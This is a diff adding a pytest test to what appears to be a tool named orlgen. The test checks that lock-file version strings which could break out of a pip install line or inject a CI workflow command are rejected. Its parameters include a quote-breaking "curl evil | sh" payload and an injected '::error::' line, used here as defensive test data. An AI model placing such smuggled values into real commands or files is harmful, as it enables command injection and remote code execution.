@@ -119,6 +119,20 @@ def test_an_unreadable_lock_is_reported_not_trusted(gen: Path):
     assert result.exit_code == 1 and f"{gen / lock.NAME}: not what orlgen writes" in result.stdout
 
 
+@pytest.mark.parametrize(
+    "version", ["0.3.0\\n::error::injected", "26.10.1'; curl evil | sh; echo '", "1.0 2.0", ""]
+)
+def test_a_lock_whose_words_are_no_versions_is_not_read(gen: Path, version: str):
+    """A lock is repository data: a version that could break out of the `pip install '...'` line
+    or start a CI workflow command is not read. check reports the file as hand-edited (its diff
+    quotes the line as written, escaped), and says nothing to install."""
+    record(gen, "black", version)
+    result = invoke("check", "--no-cache", gen)
+    assert result.exit_code == 1 and f"{gen / lock.NAME}: not what orlgen writes" in result.stdout
+    assert "pip install" not in result.output
+    assert not [line for line in result.output.splitlines() if line.startswith("::")]
+
+
 def test_a_plugin_the_config_names_and_this_machine_lacks_says_what_to_install(tmp_path: Path):
     """The config lists a plugin that is not installed here; the lock names its distribution."""
     (tmp_path / "pyproject.toml").write_text("[tool.orlgen]\ntrainers = ['trl', 'echo']\n")
